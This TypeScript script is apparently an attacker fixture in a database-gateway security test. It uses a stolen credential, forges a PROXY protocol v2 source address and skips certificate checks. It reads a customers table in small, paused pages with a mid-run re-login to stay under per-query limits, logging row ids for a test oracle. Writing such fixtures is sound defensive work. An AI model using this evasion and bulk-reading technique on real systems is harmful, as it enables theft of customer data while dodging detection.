// The attack of the story, as a program of its own: `node page-customers.ts ARGUMENTS.json`. It logs in with somebody's stolen credential, says by
// PROXY protocol v2 that it comes from elsewhere, and reads a customers table a few rows at a time, so that no single statement is over a limit.
// It prints nothing; what it saw it writes into a file, which only the oracle reads. The same bytes are run again after the lesson.
// It imports nothing of ours: it is a stranger.
import { appendFileSync, readFileSync } from 'node:fs'
import { Socket } from 'node:net'
import pg from 'pg'

interface Arguments {
  readonly host: string
  readonly port: number
  readonly user: string
  readonly password: string
  readonly database: string
  /** the address that the PROXY header claims; null: no header, the thief sits beside the gateway */
  readonly from: string | null
  readonly table: string
  readonly columns: readonly string[]
  /** counts up; pages begin behind the last one */
  readonly key: string
  readonly pageRows: number
  readonly pages: number
  readonly pauseMs: number
  /** breaks off after that many pages, and logs in again where it was */
  readonly resumeAfter: number
  /** NDJSON: one line for each page, one for each login, one for the end */
  readonly notes: string
}

const [, , file] = process.argv
if (file === undefined) process.exit(2)
const given = JSON.parse(readFileSync(file, 'utf8')) as Arguments
const note = (line: unknown): void => appendFileSync(given.notes, `${JSON.stringify(line)}\n`)

/** PROXY protocol v2, IPv4 over TCP: signature, version and command, family, length, addresses, ports. */
function proxyHeader(from: string, port: number): Buffer {
  const header = Buffer.alloc(28)
  Buffer.from('\r\n\r\n\0\r\nQUIT\n', 'latin1').copy(header)
  header[12] = 0x21
  header[13] = 0x11
  header.writeUInt16BE(12, 14)
  Buffer.from(from.split('.').map(Number)).copy(header, 16)
  Buffer.from([127, 0, 0, 1]).copy(header, 20)
  header.writeUInt16BE(40_000 + (process.pid % 20_000), 24)
  header.writeUInt16BE(port, 26)
  return header
}

async function login(): Promise<pg.Client> {
  const socket = new Socket()
  // Registered before the driver's own: the header goes out first.
  const { from } = given
  if (from !== null) socket.once('connect', () => socket.write(proxyHeader(from, given.port)))
  const client = new pg.Client({
    host: given.host,
    port: given.port,
    user: given.user,
    password: given.password,
    database: given.database,
    application_name: 'deskclient',
    // sslmode=require: a thief checks nobody's certificate.
    ssl: { rejectUnauthorized: false },
    stream: () => socket,
    connectionTimeoutMillis: 15_000,
    query_timeout: 15_000,
  })
  client.on('error', () => {})
  await client.connect()
  note({ login: new Date().toISOString() })
  return client
}

async function main(): Promise<void> {
  const quoted = given.columns.map((column) => `"${column}"`).join(', ')
  const page = `SELECT ${quoted} FROM ${given.table} WHERE "${given.key}" > $1 ORDER BY "${given.key}" LIMIT ${given.pageRows}`
  let last = '0'
  let client = await login()
  for (let n = 1; n <= given.pages; n++) {
    if (n === given.resumeAfter + 1) {
      await client.end()
      client = await login()
    }
    const began = new Date().toISOString()
    const { rows } = await client.query<Record<string, unknown>>(page, [last])
    note({ page: n, from: began, to: new Date().toISOString(), ids: rows.map((row) => Number(row[given.key])) })
    if (rows.length === 0) break
    last = String(rows[rows.length - 1]![given.key])
    await new Promise((resolve) => setTimeout(resolve, given.pauseMs))
  }
  await client.end()
}

try {
  await main()
  note({ end: 'done', at: new Date().toISOString() })
} catch (error) {
  const { code, message } = error as { code?: string; message?: string }
  note({ end: 'refused', at: new Date().toISOString(), code: code ?? null, message: message ?? null })
  process.exitCode = 1
}
